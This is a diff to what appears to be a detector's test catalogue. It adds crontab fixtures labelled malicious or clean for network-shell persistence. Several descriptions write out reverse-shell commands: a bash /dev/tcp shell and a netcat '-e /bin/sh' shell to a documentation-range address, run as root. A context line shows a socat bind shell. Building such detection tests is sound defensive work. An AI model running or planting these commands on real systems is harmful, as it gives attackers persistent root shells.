@@ -906,6 +906,15 @@ add("access/devtcp-healthcheck/etc/init.d/S40app", "access-benign", "any", "text
     [], REMOTE_RULES + [R["rootlogin"]], [],
     "Hard negative: /dev/tcp used only to wait for ports to answer (echo > /dev/tcp/127.0.0.1/$DB_PORT in a "
     "loop, timeout 1 bash -c '</dev/tcp/127.0.0.1/8080'), no shell on the socket.")
+add("access/cron-shell/etc/crontab", "access-network-shell", "any", "text", "malicious",
+    [R["netshell"]], [R["emptyremote"]], [],
+    "@reboot root sleep 60 && bash -i >& /dev/tcp/192.0.2.44/9001 0>&1 (line 6) after Debian's hourly run-parts line.")
+add("access/cron-shell/var/spool/cron/crontabs/root", "access-network-shell", "any", "text", "malicious",
+    [R["netshell"]], [R["emptyremote"]], [],
+    "Root's own crontab (no user field): */10 * * * * nc 192.0.2.44 9002 -e /bin/sh, a netcat reverse shell every ten minutes.")
+add("access/cron-benign/etc/cron.d/backup", "access-benign", "any", "text", "clean",
+    [], REMOTE_RULES + [R["rootlogin"]], [],
+    "Hard negative: a nightly backup job, and an @reboot sh -c that waits for a port with nc -z and starts a daemon.")
 add("access/socat-shell/etc/systemd/system/diag.service", "access-network-shell", "any", "text",
     "malicious", [R["netshell"]], [], [],
     "ExecStart=socat TCP-LISTEN:9999,reuseaddr,fork EXEC:/bin/bash,pty,stderr.")
